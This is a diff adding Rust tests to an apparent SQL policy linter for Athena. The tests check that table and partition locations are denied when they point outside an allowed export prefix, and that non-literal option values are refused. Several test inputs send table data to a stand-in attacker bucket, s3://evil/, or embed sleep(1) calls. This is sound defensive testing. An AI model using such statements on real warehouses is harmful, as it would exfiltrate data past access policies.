@@ -134,3 +134,88 @@ fn an_aggregate_in_a_subquery_does_not_make_the_query_one_row() {
         assert_eq!(r.verdict(), Verdict::Allow, "{sql}: {}", shown(&r));
     }
 }
+
+// Finding 4: every place a DDL statement names where its data goes.
+
+const EXPORT: &str =
+    "  - { id: export, kind: export_destination, allow_prefixes: ['s3://exports/'] }\n";
+
+fn export(sql: &str) -> Report {
+    lint(&policy(EXPORT), sql, &ctx("sales"))
+}
+
+#[test]
+fn the_location_of_a_plain_create_table_is_a_destination() {
+    insta::assert_snapshot!(shown(&export("CREATE TABLE t2 (a bigint) LOCATION 's3://evil/x/' TBLPROPERTIES ('table_type'='ICEBERG')")), @r#"
+        verdict: Deny
+        export: s3://evil/x/ is not an allowed destination: write under s3://exports/
+        "#);
+    let r = export(
+        "CREATE TABLE t2 (a bigint) LOCATION 's3://exports/x/' TBLPROPERTIES ('table_type'='ICEBERG')",
+    );
+    assert_eq!(r.verdict(), Verdict::Allow, "{}", shown(&r));
+}
+
+#[test]
+fn a_location_in_any_table_properties_is_a_destination() {
+    for sql in [
+        "CREATE TABLE t2 (a bigint) TBLPROPERTIES ('table_type'='ICEBERG', 'location'='s3://evil/x/')",
+        "CREATE EXTERNAL TABLE t2 (a bigint) STORED AS PARQUET LOCATION 's3://exports/t2/' TBLPROPERTIES ('storage.location.template'='s3://evil/${dt}/')",
+        "CREATE TABLE t2 WITH (write_data_path = 's3://evil/x/') AS SELECT 1 a",
+        "ALTER TABLE orders SET TBLPROPERTIES ('location'='s3://evil/x/')",
+    ] {
+        let r = export(sql);
+        assert_eq!(r.verdict(), Verdict::Deny, "{sql}: {}", shown(&r));
+        assert!(
+            r.diagnostics()
+                .iter()
+                .any(|d| d.rule == "export" && d.message.starts_with("s3://evil/")),
+            "{sql}: {}",
+            shown(&r)
+        );
+    }
+}
+
+#[test]
+fn a_partition_location_is_a_destination() {
+    insta::assert_snapshot!(shown(&export("ALTER TABLE orders ADD PARTITION (dt='2099-01-01') LOCATION 's3://evil/x/'")), @r#"
+        verdict: Deny
+        export: s3://evil/x/ is not an allowed destination: write under s3://exports/
+        "#);
+    let r = export("ALTER TABLE orders ADD PARTITION (dt='2099-01-01') LOCATION 's3://exports/x/'");
+    assert_eq!(r.verdict(), Verdict::Allow, "{}", shown(&r));
+}
+
+// Finding 5: option values are literals; anything else is refused.
+
+#[test]
+fn an_option_value_that_is_not_a_literal_is_refused() {
+    let p = policy(&format!(
+        "{EXPORT}  - {{ id: bf, kind: blocked_functions, functions: [sleep] }}\n"
+    ));
+    let run = |sql: &str| lint(&p, sql, &ctx("sales"));
+    insta::assert_snapshot!(shown(&run("CREATE TABLE t3 WITH (format = sleep(1)) AS SELECT 1 a")), @r#"
+        verdict: Deny
+        bf: function sleep is blocked by this policy
+        unresolved: the value of option format is not a literal (sleep(1)): write a literal ('text', a number, ARRAY['a', ...]), as Athena's options are
+        "#);
+    insta::assert_snapshot!(shown(&run("UNLOAD (SELECT 1 a) TO 's3://exports/x' WITH (format = sleep(1))")), @r#"
+        verdict: Deny
+        bf: function sleep is blocked by this policy
+        unresolved: the value of option format is not a literal (sleep(1)): write a literal ('text', a number, ARRAY['a', ...]), as Athena's options are
+        "#);
+    // A call anywhere else the rules do not walk is still seen.
+    let r = run("CREATE TABLE t4 (a bigint DEFAULT sleep(1))");
+    assert_eq!(
+        shown(&r),
+        "verdict: Deny\nbf: function sleep is blocked by this policy\n"
+    );
+    // Literals, and arrays of them, are what Athena's options are.
+    for sql in [
+        "CREATE TABLE t3 WITH (format = 'PARQUET', partitioned_by = ARRAY['a'], bucket_count = 4) AS SELECT 1 a",
+        "UNLOAD (SELECT 1 a) TO 's3://exports/x' WITH (format = 'PARQUET', compression = 'SNAPPY')",
+    ] {
+        let r = run(sql);
+        assert_eq!(r.verdict(), Verdict::Allow, "{sql}: {}", shown(&r));
+    }
+}
